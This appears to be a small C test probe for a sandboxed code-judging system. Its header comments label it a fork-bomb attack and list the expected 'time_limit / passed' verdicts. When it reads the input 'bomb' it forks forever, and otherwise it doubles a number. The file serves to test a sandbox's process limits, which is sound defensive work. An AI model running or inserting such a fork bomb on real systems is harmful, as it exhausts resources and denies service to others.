// attack: a fork bomb: every process forks forever, and keeps trying once the pids limit refuses
// tests: bomb
// verdicts: time_limit / passed

#include "probe.h"

int main(void) {
    char line[32] = "";
    if (!fgets(line, sizeof line, stdin)) return 1;
    if (strcmp(line, "bomb\n") == 0) {
        for (;;) fork();
    }
    printf("%d\n", 2 * atoi(line));
    return 0;
}
